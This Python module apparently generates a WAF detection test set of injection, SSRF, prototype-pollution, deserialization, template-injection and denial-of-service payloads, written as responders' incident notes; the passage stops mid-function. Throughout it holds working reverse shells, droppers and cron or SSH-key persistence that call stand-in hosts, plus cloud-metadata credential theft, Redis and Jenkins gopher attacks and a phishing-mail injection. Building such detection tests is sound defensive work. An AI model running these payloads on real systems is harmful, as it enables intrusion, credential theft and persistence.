"""Blind set "hundredninetieth": generic injection (Node.js, SSRF, prototype pollution, Ruby, Perl, PHP data:
streams, denial of service), Java and server-side template injection the way incident responders record them in
their case files, with benign requests that carry the same words innocently.

The angle: incident case files, recalled from memory. Each payload is written the way it turns up in a real
breach and in the notes of the responders who clean up afterwards: the first probes and the final exploit,
mass-exploitation waves against a popular product (Log4Shell, Spring4Shell, Confluence OGNL, WebLogic XMLDecoder,
VMware Workspace ONE FreeMarker, Solr Velocity, Struts, Kibana Timelion, GitLab ExifTool, Webmin), payloads
copied out of access logs and WAF alerts (URL-encoded once or twice, mixed case, with the junk parameters and
cache-busters attackers add), second-stage droppers, persistence and exfiltration one-liners, and the variants
attackers switched to after the first attempt was blocked. Each payload still works against its named target;
the comment above each group names the family, the incident context and the target (interpreter, cloud
metadata service, internal service, template engine, JVM library, product).

Families (one sub-family per detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, deserialization-gadgets, log4shell,
    expression-language, polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson, SnakeYAML),
    class-loading, jsp-upload
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks,
    ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Whole documents go as the body they are in the incident (JSON
for fastjson, Jackson, Druid, Spring Cloud Gateway and prototype pollution; XML for XStream, XMLDecoder, SOAP and
XML-RPC; YAML for SnakeYAML and Psych); query strings copied from access logs go as they were logged (raw, with
their own percent-encoding); Log4Shell and Struts probes go in the headers they were sprayed into; JSP web shells
go as upload file names carrying the shell. Binary Java serialization streams go as bytes (percent-encoded in
queries and forms). Payloads with line breaks or bytes never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, incident
write-ups as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import urllib.parse
from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredninetieth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
XD = ("xml", "rs-xml")
YB = ("yaml-body", "rs-yaml-body")
FN = ("multipart-filename", "rs-multipart-filename")
PATH = ("path", "rs-path")
# query strings and form bodies copied from access logs: sent as logged (their own percent-encoding kept)
RAW: set[str] = set()


def q(payload: str) -> tuple[str, str, str]:
    """A whole query string as it was logged."""
    RAW.add(payload)
    return payload, "query", "rs-query"


def f(payload: str) -> tuple[str, str, str]:
    """A whole form body as it was logged."""
    RAW.add(payload)
    return payload, "form", "rs-raw-body"


def hdr(payload: str, real: str, rs: str = "") -> tuple[str, str, str]:
    """A payload sprayed into a named header."""
    return payload, "header:" + real, "rs-header:" + (rs or real)


def b64(text: str) -> str:
    return base64.b64encode(text.encode("latin-1")).decode()


def pct(text: str) -> str:
    return urllib.parse.quote(text, safe="")


# ----------------------------------------------------------------------------------------------------------------
# generic / nodejs-injection: eval(), Function(), vm and require reached from request input (Node.js interpreter)
NODE_B64 = b64("require('child_process').exec('curl -s http://203.0.113.47/n.sh|sh')")
NODE_SER = ('{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl -s http://203.0.113.47/'
            'ns.sh | bash\')}()","country":"x"}')
NODE: list[Entry] = [
    # IR-2291, "calculator" endpoint doing eval(req.query.expr): the first probe, then the shell (Node.js eval)
    "require('child_process').exec('id')",
    "require('child_process').execSync('id').toString()",
    "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()",
    "global.process.mainModule.constructor._load('child_process').execSync('uname -a').toString()",
    "require('child_process').spawn('/bin/sh',['-c','bash -i >& /dev/tcp/203.0.113.47/9001 0>&1'])",
    # the second stage: fetch a dropper and pipe it to the shell; the base64 variant after the first was blocked
    "require(\"child_process\").execSync(\"curl -fsSL http://203.0.113.47/k.sh | sh\").toString()",
    f"eval(Buffer.from('{NODE_B64}','base64').toString())",
    "%27%3Brequire(%27child_process%27).execSync(%27wget%20-qO-%20http%3A%2F%2F198.51.100.9%2Fx%7Cbash%27)%2F%2F",
    # string breakout in a server-side filter built with eval("item." + field + " == '...'")
    "';require('child_process').exec('wget -qO- http://198.51.100.9/x|bash');//",
    "\");process.mainModule.require('child_process').exec('id');//",
    # persistence and exfiltration seen in the same case: cron, SSH key, environment to a collector
    "require('child_process').exec('echo \"*/5 * * * * curl -s http://203.0.113.47/u.sh|sh\" | crontab -')",
    "require('fs').appendFileSync('/home/node/.ssh/authorized_keys','\\nssh-ed25519 "
    "AAAAC3NzaC1lZDI1NTE5AAAAIHq0m3x7kCz4 op@vps\\n')",
    "require('http').get('http://198.51.100.9/c?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))",
    "res.end(require('fs').readFileSync('/proc/self/environ'))",
    "require('fs').readdirSync('/app').toString()",
    # Function constructor and vm sandbox escapes (vm.runInNewContext, vm2 before 3.9.18)
    "Function('return process')().mainModule.require('child_process').execSync('id')",
    "new Function(\"return this.process.env\")()",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()",
    "[]['constructor']['constructor'](\"return process.mainModule.require('child_process').execSync('whoami')"
    ".toString()\")()",
    "Error.prepareStackTrace=(e,frames)=>{frames.constructor.constructor('return process')().mainModule"
    ".require('child_process').execSync('touch /tmp/vm2')};(async()=>{}).constructor('return 1')().stack",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['/bin/sh','-c','id'],"
    "stdio:[{type:'pipe',readable:1,writable:0},{type:'pipe',readable:0,writable:1}]})",
    "import('child_process').then(m=>m.execSync('curl -s http://203.0.113.47/esm.sh|sh'))",
    # node-serialize unserialize() of the profile cookie (CVE-2017-5941): the document and the base64 cookie
    (NODE_SER, *JB),
    (b64(NODE_SER), "cookie", "rs-cookie"),
    "_$$ND_FUNC$$_function(){require('child_process').exec('nc -e /bin/sh 203.0.113.47 4444')}()",
]

# generic / nodejs-dos: requests that stop the Node.js event loop or exhaust the V8 heap (Node.js process)
NODE_DOS: list[Entry] = [
    # IR-2305, a rules engine that compiled user-supplied JavaScript: the loops that took the pods down
    "while(true){}",
    "for(;;){}",
    "new Function('for(;;){}')()",
    "(function r(){setImmediate(r);while(1);})()",
    "(function f(){f()})()",
    # heap exhaustion: arrays, strings and buffers bigger than the heap
    "Array(1e9).fill('A').join('')",
    "Buffer.alloc(2147483647)",
    "'A'.repeat(536870888)",
    "[...Array(1e9).keys()]",
    "while(1){Buffer.allocUnsafe(1e8)}",
    "setInterval(()=>{global.x=(global.x||[]).concat(Array(1e7).fill(1))},1)",
    # reading devices that never end
    "require('fs').readFileSync('/dev/zero')",
    "require('fs').readFileSync('/dev/urandom')",
    # killing the worker outright, and a fork bomb through child_process
    "process.kill(process.pid,'SIGKILL')",
    "require('child_process').execSync(':(){ :|:& };:')",
    # catastrophic regexes fed to new RegExp(req.query.pattern) in the search API
    "(a+)+$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(.*a){25}",
    "(x+x+)+y",
]

# generic / ssrf-cloud-metadata: the URL fetchers (webhooks, avatar import, PDF renderer) pointed at the cloud
# instance metadata service to steal role credentials (AWS IMDS, GCP, Azure IMDS, Alibaba, DigitalOcean, Oracle)
SSRF_META: list[Entry] = [
    # the 2019 WAF-role case: list the role, then read its keys (AWS IMDSv1)
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/ISRM-WAF-Role",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://instance-data/latest/meta-data/iam/info",
    # ECS task role and the IPv6 IMDS endpoint on Nitro
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    # IMDSv2 token through gopher when the fetcher speaks it (PUT with the TTL header)
    "gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0D%0AHost:%20169.254.169.254%0D%0A"
    "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0D%0A%0D%0A",
    # GCP: v1beta1 needs no header; v1 through gopher with Metadata-Flavor
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
    "gopher://metadata.google.internal:80/_GET%20/computeMetadata/v1/instance/attributes/kube-env%20HTTP/1.1"
    "%0D%0AHost:%20metadata.google.internal%0D%0AMetadata-Flavor:%20Google%0D%0A%0D%0A",
    "http://169.254.169.254/computeMetadata/v1beta1/instance/service-accounts/default/token",
    # Azure managed identity token, Alibaba RAM role, DigitalOcean and Oracle Cloud
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management."
    "azure.com/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/opc/v1/instance/",
    # the variants after 169.254.169.254 was denied: decimal, hex, octal, mixed, IPv6-mapped, DNS rebinding names
    "http://2852039166/latest/meta-data/iam/security-credentials/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/user-data",
    "http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/iam/info",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://allowed-cdn.example.com@169.254.169.254/latest/meta-data/",
    # copied from the access log: encoded for the double-decoding image proxy, with the attacker's cache-buster
    q("url=http://169.254.169.254/latest/meta-data/iam/security-credentials/&_=1639381245113"),
    q("webhook_url=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data&test=1&nocache=93127"),
    "http%253A%252F%252F169.254.169.254%252Flatest%252Fmeta-data%252Fiam%252Fsecurity-credentials%252F",
    # HTML sent to the PDF renderer (wkhtmltopdf) so it fetches the metadata into the document
    "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=1000 height=1000>",
]


def _resp(*commands: Sequence[str]) -> str:
    """Redis commands in the protocol's own framing (what a gopher:// SSRF writes to port 6379)."""
    out = ""
    for cmd in commands:
        out += f"*{len(cmd)}\r\n" + "".join(f"${len(a.encode())}\r\n{a}\r\n" for a in cmd)
    return out


def _gopher(hostport: str, data: str) -> str:
    return f"gopher://{hostport}/_" + pct(data)


REDIS_CRON = _gopher("127.0.0.1:6379", _resp(
    ["flushall"], ["set", "1", "\n\n*/1 * * * * bash -c 'sh -i >& /dev/tcp/203.0.113.47/4444 0>&1'\n\n"],
    ["config", "set", "dir", "/var/spool/cron/"], ["config", "set", "dbfilename", "root"], ["save"]))
REDIS_SHELL = _gopher("localhost:6379", _resp(
    ["config", "set", "dir", "/var/www/html"], ["config", "set", "dbfilename", "cache.php"],
    ["set", "x", "<?php system($_GET['c']);?>"], ["save"]))
REDIS_SSH = _gopher("127.0.0.1:6379", _resp(
    ["config", "set", "dir", "/root/.ssh"], ["config", "set", "dbfilename", "authorized_keys"],
    ["set", "k", "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFw9q op@vps\n\n"], ["save"]))
REDIS_ROGUE = _gopher("127.0.0.1:6379", _resp(["slaveof", "203.0.113.47", "21000"],
                                              ["config", "set", "dbfilename", "exp.so"]))
SMTP = _gopher("127.0.0.1:25", "HELO localhost\r\nMAIL FROM:<it-support@corp.example>\r\nRCPT TO:<cfo@corp.example>"
               "\r\nDATA\r\nSubject: password expiry\r\n\r\nhttps://corp-login.example/reset\r\n.\r\nQUIT\r\n")
JENKINS_BODY = "script=" + pct('"curl -s http://203.0.113.47/jk.sh|sh".execute()')
JENKINS = _gopher("127.0.0.1:8080", "POST /scriptText HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nContent-Type: "
                  f"application/x-www-form-urlencoded\r\nContent-Length: {len(JENKINS_BODY)}\r\n\r\n{JENKINS_BODY}")

# generic / ssrf-internal-ip: the same fetchers aimed at services inside the network (Redis, Docker, kubelet,
# Consul, etcd, Elasticsearch, Tomcat manager, SMTP relay, local files)
SSRF_INTERNAL: list[Entry] = [
    # IR-2317, the webhook tester: the responders' reconstruction of the internal scan, then the gopher payloads
    "http://127.0.0.1:8080/manager/html",
    "http://localhost:8500/v1/agent/self",
    "http://[::1]:8080/actuator/env",
    "http://0/server-status",
    "http://127.1:9200/_cat/indices?v",
    "http://0x7f000001:2375/containers/json?all=1",
    "http://2130706433:2379/v2/keys/?recursive=true",
    "http://0177.0.0.1:8161/admin/",
    "http://127.000.000.001:9090/api/v1/targets",
    "https://127.0.0.1:10250/runningpods/",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://10.96.0.1:443/api/v1/namespaces/default/pods",
    "http://localtest.me:8080/admin",
    "http://127.0.0.1.nip.io:5984/_all_dbs",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:6379/",
    "http://allowed.example.com@127.0.0.1:8080/jmx-console/",
    "http://127.0.0.1\\@allowed.example.com/admin",
    # file, dict and gopher schemes against local files and plain-text protocols
    "file:///etc/passwd",
    "file:///proc/self/environ",
    "file://localhost/root/.aws/credentials",
    "dict://127.0.0.1:6379/info",
    "dict://127.0.0.1:11211/stats",
    "netdoc:///etc/hosts",
    "jar:http://127.0.0.1:8080/app.jar!/application.yml",
    REDIS_CRON,
    REDIS_SHELL,
    REDIS_SSH,
    REDIS_ROGUE,
    SMTP,
    JENKINS,
    q("url=http://127.0.0.1:8080/admin/&format=json&cb=8812"),
]

# generic / javascript-prototype-pollution: merge/extend of request objects (lodash.merge, qs with
# allowPrototypes, jQuery.extend) in Node.js services, and the gadgets that turned it into RCE
PROTO: list[Entry] = [
    # IR-2330, the Express admin API: first the privilege probe in the query string
    q("__proto__[isAdmin]=true"),
    q("__proto__.isAdmin=true&redirect=/admin"),
    q("constructor[prototype][isAdmin]=1"),
    q("constructor.prototype.role=admin&_=1702219841"),
    q("__pro__proto__to__[isAdmin]=true"),
    # the blind detection probes (JSON spaces, CORS, status) that confirmed pollution before the gadget
    ('{"__proto__":{"json spaces":10}}', *JB),
    ('{"__proto__":{"exposedHeaders":["X-Polluted"]}}', *JB),
    ('{"constructor":{"prototype":{"isAdmin":true}}}', *JB),
    ('{"user":{"name":"x","__proto__":{"role":"admin"}}}', *JB),
    # EJS outputFunctionName / escapeFunction gadgets (template engine reached through the polluted options)
    q("__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');"
      "var%20__tmp2"),
    ('{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'curl '
     'http://203.0.113.47/p.sh|sh\');x"}}', *JB),
    ('{"__proto__":{"client":1,"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\')'
     '.exec(\'id\')"}}', *JB),
    # lodash.template sourceURL, pug AST and handlebars AST gadgets
    ('{"__proto__":{"sourceURL":"\\u000areturn e=>{return global.process.mainModule.constructor._load('
     '\'child_process\').execSync(\'id\')}\\u000a//"}}', *JB),
    ('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync('
     '\'id\')"}}}', *JB),
    ('{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":'
     '"NumberLiteral","value":"process.mainModule.require(\'child_process\').execSync(\'id\')"}],"loc":'
     '{"start":0,"end":0}}]}}', *JB),
    # child_process.spawn options gadget: shell, argv0 and NODE_OPTIONS on Object.prototype
    ('{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\')'
     '.toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}', *JB),
    q("__proto__[shell]=node&__proto__[NODE_OPTIONS]=--inspect%3D203.0.113.47%3A9229"),
    # Kibana Timelion (CVE-2019-7609), the expression from the case file
    ".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i>& "
    "/dev/tcp/203.0.113.47/6666 0>&1\\'\");process.exit()//')\n.props(label.__proto__.env.NODE_OPTIONS="
    "'--require /proc/self/environ')",
    # client-side gadget in the marketing site (script loaded from the polluted transport_url)
    q("__proto__[transport_url]=data:,alert(document.domain)//"),
    q("a[constructor][prototype][sourceURL]=%0Areturn%20process.mainModule.require('child_process')"
      ".execSync('id')//"),
]

# generic / ruby-injection: eval, Kernel#open, backticks, ERB and YAML.load in Rails apps (Ruby interpreter)
RUBY_B64 = b64("system('curl -s http://203.0.113.47/rb.sh|bash')")
RUBY_YAML = """---
- !ruby/object:Gem::Installer
    i: x
- !ruby/object:Gem::SpecFetcher
    i: y
- !ruby/object:Gem::Requirement
  requirements:
    !ruby/object:Gem::Package::TarReader
    io: &1 !ruby/object:Net::BufferedIO
      io: &1 !ruby/object:Gem::Package::TarReader::Entry
         read: 0
         header: "abc"
      debug_output: &1 !ruby/object:Net::WriteAdapter
         socket: &1 !ruby/object:Gem::RequestSet
             sets: !ruby/object:Net::WriteAdapter
                 socket: !ruby/module 'Kernel'
                 method_id: :system
             git_set: curl -s http://203.0.113.47/y.sh | bash
         method_id: :resolve
"""
RAILS_XML = """<?xml version="1.0" encoding="UTF-8"?>
<exploit type="yaml">--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection
? ! "foo\\n(system('id'); @executed = true) unless @executed\\n__END__\\n"
: !ruby/struct
  defaults:
    :action: create
    :controller: foos
  required_parts: []
  requirements:
    :action: create
    :controller: foos
  segment_keys:
    - :format
</exploit>"""
RUBY: list[Entry] = [
    # IR-2342, the Rails report exporter: open(params[:file]) with a leading pipe (Kernel#open)
    "|curl -s http://203.0.113.47/r.sh | bash",
    "|cat /etc/passwd",
    "|nc 203.0.113.47 4445 -e /bin/sh",
    "| bash -c 'echo c3NoLWVkMjU1MTkgQUFBQQ== | base64 -d >> ~/.ssh/authorized_keys'",
    # eval(params[:sort]) in an admin listing: the probe, the exploit, the encoded dropper
    "system('id')",
    "`id`",
    "%x(cat config/master.key)",
    "IO.popen('uname -a').read",
    "Kernel.exec('/bin/sh -c \"id\"')",
    "Open3.capture2('whoami')[0]",
    "Process.spawn('curl -s http://203.0.113.47/p.sh | sh')",
    "send(:system,'id')",
    "Object.const_get(:Kernel).public_send(:system,'id')",
    f"eval(Base64.decode64('{RUBY_B64}'))",
    "instance_eval('`curl -s http://203.0.113.47/ie.sh|sh`')",
    "name#{`id`}",
    "File.read('config/master.key')",
    "Rails.application.secrets.secret_key_base",
    "ERB.new(\"<%= `id` %>\").result(binding)",
    # YAML.load of an uploaded config (Psych, RubyGems universal gadget) and the 2013 XML params wave
    (RUBY_YAML, *YB),
    ("--- !ruby/object:Gem::Installer\ni: x\n", *YB),
    (RAILS_XML, *XD),
]

# generic / perl-injection: open() pipes, system, eval and qx in Perl CGIs and appliances (Perl interpreter)
PERL_B64 = b64("system('wget -qO /tmp/.p http://203.0.113.47/p.pl; perl /tmp/.p')")
PERL: list[Entry] = [
    # IR-2351, the old AWStats/CGI box: two-argument open() with pipes
    "|id|",
    q("configdir=|echo;id;echo|"),
    "|/bin/sh -c 'curl -s http://203.0.113.47/cg.sh|sh'|",
    "/etc/passwd|",
    # Webmin password_change.cgi (CVE-2019-15107), as logged by the appliance
    f("user=root&pam=&expired=2&old=test|id&new1=test2&repeat1=test2"),
    f("user=rootxx&pam=&expired=2&old=test|wget%20-qO-%20http://203.0.113.47/w.sh|sh&new1=x&repeat1=x"),
    # eval() of a request parameter in a Perl app: qx, system, interpolation tricks
    ";system('id');",
    "qx{cat /etc/shadow}",
    "@{[system 'id']}",
    "${\\`id`}",
    "eval{system(\"uname -a\")}",
    "system(pack('H*','6964'))",
    f"use MIME::Base64;eval(decode_base64('{PERL_B64}'))",
    "open(F,'|/bin/sh -i');",
    # GitLab ExifTool DjVu annotation (CVE-2021-22205): the metadata line inside the uploaded image
    "(metadata \"\\c${system('curl -s http://203.0.113.47/gl.sh|bash')};\")",
    "(metadata (Copyright \"\\\n\" . qx{id} . \\\n\" b \") )",
    # the reverse shells the responders pulled from the process list
    "perl -e 'use Socket;$i=\"203.0.113.47\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"203.0.113.47:5555\");"
    "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
]

# generic / php-data-scheme: data: streams handed to include()/file_get_contents() (PHP interpreter)
PHP_SHELL = "<?php system($_GET['cmd']); ?>"
PHP_DROP = ("<?php file_put_contents('wp-content/uploads/.cache.php',"
            "file_get_contents('http://203.0.113.47/s.txt'));?>")
PHP_DATA: list[Entry] = [
    # IR-2360, the ?page= include on the legacy marketing site: probe, shell, dropper
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain,<?php system('id');?>",
    "data://text/plain;base64," + b64(PHP_SHELL),
    "data:;base64," + b64("<?php passthru('uname -a');?>"),
    "data://text/plain;base64," + b64(PHP_DROP),
    "data:application/x-httpd-php;base64," + b64("<?php echo shell_exec($_POST['x']);?>"),
    "data:,<?php eval($_POST[z]);?>",
    "data://text/plain,<?=`$_GET[0]`?>",
    # after the first block: mixed case, encoded once (sent encoded twice), short tags
    "DaTa://TeXt/PlAiN;BaSe64," + b64("<?php system('id');?>"),
    "data%3A%2F%2Ftext%2Fplain%3Bbase64%2C" + pct(b64(PHP_SHELL)),
    q("page=data://text/plain;base64," + pct(b64("<?php system($_GET['c']);?>")) + "&lang=en&c=id"),
    q("file=data:text/plain,%3C%3Fphp%20system('curl%20-s%20http://203.0.113.47/d.sh|sh')%3B%3F%3E&v=2"),
    "data://text/plain;charset=utf-8,<?php fputs(fopen('x.php','w'),'<?php eval($_POST[1]);?>');?>",
    "data://text/plain;base64," + b64("<?php $s=fsockopen('203.0.113.47',4446);exec('/bin/sh -i <&3 >&3 2>&3');?>"),
]

# ----------------------------------------------------------------------------------------------------------------
# java / java-class-names: Java strings that name Runtime, ProcessBuilder, ClassLoader and ScriptEngineManager,
# reached through scripting sinks (Nashorn, Groovy, JShell, Druid's JavaScript parser) in the JVM
DRUID = ('{"type":"index","spec":{"ioConfig":{"type":"index","firehose":{"type":"local","baseDir":"/etc",'
         '"filter":"passwd"}},"dataSchema":{"dataSource":"test","parser":{"parseSpec":{"format":"javascript",'
         '"timestampSpec":{},"dimensionsSpec":{},"function":"function(){var a = new java.util.Scanner(java.lang.'
         'Runtime.getRuntime().exec([\\"sh\\",\\"-c\\",\\"id\\"]).getInputStream()).useDelimiter(\\"\\\\A\\").next();'
         'return {timestamp:123123,test: a}}","":{"enabled":"true"}}}}},"samplerConfig":{"numRows":500,'
         '"timeoutMs":900000}}')
JAVA_CLASS: list[Entry] = [
    # IR-2402, a reporting app with a Nashorn "formula" field: probe, exploit, exfil
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "java.lang.System.getenv()",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class).invoke(Class.forName("
    "\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")",
    "\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"whoami\")",
    "java.lang.Thread.currentThread().getContextClassLoader().loadClass(\"javax.script.ScriptEngineManager\")",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/passwd\"))",
    "org.apache.commons.io.IOUtils.toString(java.lang.Runtime.getRuntime().exec(\"cat /etc/hostname\")"
    ".getInputStream())",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "new groovy.lang.GroovyShell().evaluate(\"'id'.execute().text\")",
    "new javax.naming.InitialContext().lookup(\"ldap://203.0.113.47:1389/Exploit\")",
    "java.lang.Runtime.getRuntime().exec(new java.lang.String[]{\"/bin/bash\",\"-c\",\"env | curl -d @- "
    "http://203.0.113.47/e\"})",
    "var x=new java.lang.ProcessBuilder;x.command(\"id\");x.start()",
    # Apache Druid (CVE-2021-25646): the sampler request that ran the JavaScript parser
    (DRUID, *JB),
    "Packages.java.lang.Runtime.getRuntime().exec('touch /tmp/rhino')",
]

# java / java-process-spawn: the commands the JVM ran (ProcessBuilder, Runtime.exec, Groovy execute())
JAVA_REV = b64("bash -i >& /dev/tcp/203.0.113.47/443 0>&1")
JAVA_SPAWN: list[Entry] = [
    # IR-2410, exposed Jenkins script console: the operator's first commands, then persistence
    "println \"id\".execute().text",
    "def proc = ['bash','-c','cat /var/jenkins_home/secrets/master.key'].execute(); println proc.text",
    "'curl -s http://203.0.113.47/x.sh -o /tmp/.x'.execute()",
    "[\"bash\",\"-c\",\"(crontab -l; echo '*/10 * * * * curl -fsSL http://203.0.113.47/c.sh|sh') | crontab -\"]"
    ".execute()",
    # reverse shells typed into expression sinks
    "new ProcessBuilder(\"bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.47/443 0>&1\").start()",
    "Runtime.getRuntime().exec(\"bash -c {echo," + JAVA_REV + "}|{base64,-d}|{bash,-i}\")",
    "Runtime r=Runtime.getRuntime();Process p=r.exec(new String[]{\"/bin/bash\",\"-c\",\"exec 5<>/dev/tcp/"
    "203.0.113.47/2002;cat <&5 | while read line; do $line 2>&5 >&5; done\"});p.waitFor();",
    "ProcessBuilder pb = new ProcessBuilder(\"/bin/sh\",\"-c\",\"wget -q -O- http://198.51.100.9/m.sh|sh\"); "
    "pb.redirectErrorStream(true); pb.start();",
    # Windows hosts in the same wave (certutil and PowerShell cradles)
    "Runtime.getRuntime().exec(\"cmd.exe /c certutil -urlcache -split -f http://203.0.113.47/b.exe "
    "%TEMP%\\\\b.exe\")",
    "Runtime.getRuntime().exec(\"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -C IEX(New-Object "
    "Net.WebClient).DownloadString('http://203.0.113.47/a.ps1')\")",
    # exfiltration of configuration and secrets
    "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"tar czf - /opt/app/config | curl -T - "
    "http://203.0.113.47/up\"})",
    "new ProcessBuilder(new String[]{\"cat\",\"/etc/shadow\"}).start().getInputStream()",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "String[] cmd = {\"sh\",\"-c\",\"id > /tmp/o\"}; Runtime.getRuntime().exec(cmd);",
    "new ProcessBuilder(java.util.Arrays.asList(\"sh\",\"-c\",\"kill -9 $(pgrep -f xmrig)\")).start()",
]


# java / java-serialization and deserialization-gadgets: ObjectInputStream endpoints (JBoss invoker, JSF
# ViewState, OFBiz XML-RPC, custom cookie and parameter blobs) fed Java serialization streams
def _u(text: str) -> str:
    """A Java serialization UTF string: two-byte length, then the text."""
    return chr(len(text) >> 8) + chr(len(text) & 0xFF) + text


def _h(hexstr: str) -> str:
    return bytes.fromhex(hexstr).decode("latin-1")


def _cls(name: str, suid: str, fields: Sequence[tuple[str, str, str]] = (), flags: str = "02") -> str:
    """TC_OBJECT, TC_CLASSDESC of `name` (serialVersionUID, flags, fields), TC_ENDBLOCKDATA, no superclass."""
    out = "sr" + _u(name) + _h(suid) + _h(flags) + chr(0) + chr(len(fields))
    for code, fname, ftype in fields:
        out += code + _u(fname) + ("t" + _u(ftype) if code in "L[" else "")
    return out + "xp"


def _s(text: str) -> str:
    return "t" + _u(text)


MAGIC = "\xac\xed\x00\x05"
OBJ = "Ljava/lang/Object;"
STR = "Ljava/lang/String;"
TRANSFORMER = "Lorg/apache/commons/collections/Transformer;"


def urldns(host: str) -> str:
    """ysoserial URLDNS: a HashMap whose key is a java.net.URL (one DNS lookup when the map is rebuilt)."""
    return (MAGIC + _cls("java.util.HashMap", "0507dac1c31660d1", [("F", "loadFactor", ""), ("I", "threshold", "")],
                         "03")
            + _h("3f4000000000000c") + "w\x08" + _h("0000001000000001")
            + _cls("java.net.URL", "962537361afce472", [("I", "hashCode", ""), ("I", "port", ""),
                                                          ("L", "authority", STR), ("L", "file", STR),
                                                          ("L", "host", STR), ("L", "protocol", STR),
                                                          ("L", "ref", STR)], "03")
            + _h("ffffffffffffffff") + _s(host) + _s("") + _s(host) + _s("http") + "px" + _s("http://" + host) + "x")


def cc_chain(cmd: str) -> str:
    """Commons Collections: LazyMap over ChainedTransformer(ConstantTransformer(Runtime), InvokerTransformer x3)."""
    invoker = [("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", STR),
               ("[", "iParamTypes", "[Ljava/lang/Class;")]
